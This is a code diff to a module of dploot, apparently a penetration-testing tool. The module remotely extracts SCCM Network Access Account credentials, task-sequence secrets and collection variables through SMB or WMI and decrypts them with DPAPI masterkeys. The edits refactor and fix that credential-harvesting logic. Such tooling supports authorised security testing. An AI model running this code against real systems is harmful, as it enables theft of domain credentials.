@@ -1,42 +1,47 @@
 import logging
-from typing import List, Tuple
+from typing import Callable, List, Tuple
 import re
 
 from dploot.lib.dpapi import decrypt_blob, find_masterkey_for_blob
 from dploot.lib.smb import DPLootSMBConnection
+from dploot.lib.stats import instrument
 from dploot.lib.target import Target
+from dploot.lib.wmi import enum_objects
 from dploot.triage.masterkeys import Masterkey
-from impacket.dcerpc.v5.dcom import wmi
-from impacket.dcerpc.v5.dtypes import NULL
-from impacket.dcerpc.v5.dcomrt import DCOMConnection
 
 class SCCM:
 
+    __slots__ = ()
+
     @classmethod
     def member_to_string(cls, member):
         return member.decode('utf-16le', errors='backslashreplace').rstrip('\0')
 
     def dump(self) -> None:
         print(self.description_header)
-        for name, value in self.__dict__.items():
+        for name, value in self.members():
             print('\t%8s:\t%s' % (name.capitalize(), self.member_to_string(value)))
     
     def dump_quiet(self) -> None:
-        print(f'{self.quiet_description_header} {":".join([self.member_to_string(_) for _ in self.__dict__.values()])}')
+        print(f'{self.quiet_description_header} {":".join([self.member_to_string(value) for _, value in self.members()])}')
     
+    def members(self) -> List[Tuple[str, bytes]]:
+        return [(name, getattr(self, name)) for name in self.__slots__]
+
     def __eq__(self, other) -> bool:
-        for name in self.__dict__:
+        for name in self.__slots__:
             if getattr(self, name) != getattr(other, name):
                 return False
         return True
 
     def __hash__(self) -> int:
-        return hash(tuple(self.__dict__.values()))
+        return hash(tuple(value for _, value in self.members()))
 
 class SCCMCred(SCCM):
 
     description_header       = '[NAA Account]'
     quiet_description_header = '[NAA]'
+    __slots__ = ('username', 'password')
 
     def __init__(self, username: bytes, password: bytes) -> None:
         self.username = username
@@ -46,6 +51,7 @@ class SCCMSecret(SCCM):
 
     description_header       = '[Task sequences secret]'
     quiet_description_header = '[Task]'
+    __slots__ = ('secret',)
 
     def __init__(self, secret) -> None:
         self.secret = secret
@@ -54,6 +60,7 @@ class SCCMCollection(SCCM):
     
     description_header       = '[Collection Variable]'
     quiet_description_header = '[Collection]'
+    __slots__ = ('variable', 'value')
 
     def __init__(self, variable: bytes, value: bytes) -> None:
         self.variable = variable
@@ -64,13 +71,19 @@ class SCCMTriage:
     sccm_objectdata_filepath = 'Windows\\System32\\wbem\\Repository\\OBJECTS.DATA'
     share = 'C$'
 
-    def __init__(self, target: Target, conn: DPLootSMBConnection, masterkeys: List[Masterkey], use_wmi: bool) -> None:
+    def __init__(self, target: Target, conn: DPLootSMBConnection, masterkeys: List[Masterkey], use_wmi: bool, wmi_batch_size: int = 100, per_finding_callback: Callable[[SCCM], None] = None) -> None:
         self.target = target
         self.conn = conn
         self.use_wmi = use_wmi
+        self.wmi_batch_size = wmi_batch_size
         self.masterkeys = masterkeys
+        self.per_finding_callback = per_finding_callback
 
-        self.dcom_conn = None
+    def found(self, finding: SCCM) -> SCCM:
+        ''' Hands finding to per_finding_callback as soon as it is decrypted, before the triage returns '''
+        if self.per_finding_callback is not None:
+            self.per_finding_callback(finding)
+        return finding
 
 
     def sccmdecrypt(self, dpapi_blob):
@@ -101,12 +114,17 @@ class SCCMTriage:
             logging.debug(f"Found NAA Credentials from OBJECTS.DATA file: {match.start()} - {match.end()}")
             password = self.sccmdecrypt(match.group(1))
             username = self.sccmdecrypt(match.group(2))
-            sccmcred.add(SCCMCred(username, password))
+            cred = SCCMCred(username, password)
+            # OBJECTS.DATA holds several copies of the same policies
+            if cred not in sccmcred:
+                sccmcred.add(self.found(cred))
         pattern = re.compile(regex_task)
         logging.debug("Looking for task sequences secret from OBJECTS.DATA file")
         for match in pattern.finditer(objectfile):
             logging.debug(f"Found task sequences secret from OBJECTS.DATA file: {match.start()} - {match.end()}")
-            sccmsecret.add(SCCMSecret(self.sccmdecrypt(match.group(1))))
+            secret = SCCMSecret(self.sccmdecrypt(match.group(1)))
+            if secret not in sccmsecret:
+                sccmsecret.add(self.found(secret))
         pattern = re.compile(regex_collection)
         logging.debug("Looking for collection variables from OBJECTS.DATA file")
         for match in pattern.finditer(objectfile):
@@ -114,44 +132,40 @@ class SCCMTriage:
                 logging.debug(f"Found collection variable from OBJECTS.DATA file: {match.start()} - {match.end()}")
                 name = match.group(1).decode('utf-8').encode('utf-16le')
                 value = self.sccmdecrypt(match.group(2))
-                sccmcollection.add(SCCMCollection(name, value))
+                collection = SCCMCollection(name, value)
+                if collection not in sccmcollection:
+                    sccmcollection.add(self.found(collection))
             except Exception as e:
                 logging.debug(f'Exception encountered in {__name__}: {e}.')
                 
         return sccmcred, sccmsecret, sccmcollection
     
-    def parseReply(self, iEnum):
+    def parseReply(self, wmi_conn, iEnum):
             finding = list()
             regex = r"<PolicySecret Version=\"1\"><!\[CDATA\[(.*?)\]\]><\/PolicySecret>"
-            while True:
-                try:
-                    pEnum = iEnum.Next(0xffffffff,1)[0]
+            try:
+                for pEnum in enum_objects(wmi_conn, iEnum, batch_size=self.wmi_batch_size):
                     record = pEnum.getProperties()
 
                     if 'NetworkAccessUsername' in record and 'NetworkAccessPassword' in record and len(record['NetworkAccessUsername']['value']) > 0 and len(record['NetworkAccessPassword']['value']) > 0:
                         logging.debug("Found NAA Credentials using WMI")
                         username = self.sccmdecrypt(re.match(regex, record['NetworkAccessUsername']['value']).group(1))
                         password = self.sccmdecrypt(re.match(regex, record['NetworkAccessPassword']['value']).group(1))
-                        finding.append(SCCMCred(username, password))
-                    if 'Name' in record and 'Value' in record and len(record['Name']['value']) > 0 and len(record['value']['value']) > 0:
+                        finding.append(self.found(SCCMCred(username, password)))
+                    if 'Name' in record and 'Value' in record and len(record['Name']['value']) > 0 and len(record['Value']['value']) > 0:
                         logging.debug("Found collection variables using WMI")
-                        name = self.sccmdecrypt(re.match(regex, record['name']['value']).group(1))
-                        value = self.sccmdecrypt(re.match(regex, record['value']['value']).group(1))
-                        finding.append(SCCMCollection(name, value))
+                        name = self.sccmdecrypt(re.match(regex, record['Name']['value']).group(1))
+                        value = self.sccmdecrypt(re.match(regex, record['Value']['value']).group(1))
+                        finding.append(self.found(SCCMCollection(name, value)))
                     if 'TS_Sequence' in record and len(record['TS_Sequence']['value']) > 0:
                         logging.debug("Found task sequences secret using WMI")
                         secret = self.sccmdecrypt(re.match(regex, record['TS_Sequence']['value']).group(1))
-                        finding.append(SCCMSecret, secret)
-                except Exception as e:
-                    if str(e).find('S_FALSE') > 0:
-                        break
-                    if logging.getLogger().level == logging.DEBUG:
-                        import traceback
-                        traceback.print_exc()
-                        raise
-                    else:
-                        break
-            iEnum.RemRelease()
+                        finding.append(self.found(SCCMSecret(secret)))
+            except Exception as e:
+                if logging.getLogger().level == logging.DEBUG:
+                    import traceback
+                    traceback.print_exc()
+                    raise
             return finding
 
 
@@ -164,31 +178,23 @@ class SCCMTriage:
         query_task = 'SELECT TS_Sequence FROM CCM_TaskSequence'
         query_collection = 'SELECT Name, Value FROM CCM_CollectionVariable'
         try:
-            self.dcom_conn = DCOMConnection(self.target.address, self.target.username, self.target.password, self.target.domain, self.target.lmhash, self.target.nthash, self.target.aesKey, oxidResolver=True, doKerberos=self.target.do_kerberos, kdcHost=self.target.dc_ip)
-            iInterface = self.dcom_conn.CoCreateInstanceEx(wmi.CLSID_WbemLevel1Login,wmi.IID_IWbemLevel1Login)
-            iWbemLevel1Login = wmi.IWbemLevel1Login(iInterface)
-            iWbemServices = iWbemLevel1Login.NTLMLogin(namespace, NULL, NULL)
-            iWbemLevel1Login.RemRelease()
-            logging.debug("Query WMI for Network access accounts")
-            iEnumWbemClassObject = iWbemServices.ExecQuery(query_naa)
-            sccmcred = self.parseReply(iEnumWbemClassObject)
-            logging.debug("Query WMI for Task sequences")
-            iEnumWbemClassObject = iWbemServices.ExecQuery(query_task)
-            sccmtask = self.parseReply(iEnumWbemClassObject)
-            logging.debug("Query WMI for collection variables")
-            iEnumWbemClassObject = iWbemServices.ExecQuery(query_collection)
-            sccmcollection = self.parseReply(iEnumWbemClassObject)
-            iEnumWbemClassObject.RemRelease()
+            wmi_conn = self.conn.wmi
+            # the queries are semisynchronous: the three of them run on the server while results are fetched
+            logging.debug("Query WMI for Network access accounts, Task sequences and collection variables")
+            iEnumNaa = wmi_conn.query(namespace, query_naa)
+            iEnumTask = wmi_conn.query(namespace, query_task)
+            iEnumCollection = wmi_conn.query(namespace, query_collection)
+            sccmcred = self.parseReply(wmi_conn, iEnumNaa)
+            sccmtask = self.parseReply(wmi_conn, iEnumTask)
+            sccmcollection = self.parseReply(wmi_conn, iEnumCollection)
         except  (Exception, KeyboardInterrupt) as e:
             if logging.getLogger().level == logging.DEBUG:
                 import traceback
                 traceback.print_exc()
                 logging.debug(str(e))
-        finally:
-            if self.dcom_conn is not None:
-                self.dcom_conn.disconnect()
         return sccmcred, sccmtask, sccmcollection
     
+    @instrument()
     def triage_sccm(self) -> Tuple[List[SCCMCred], List[SCCMSecret], List[SCCMCollection]]:
         sccmcred=list()
         sccmtask=list()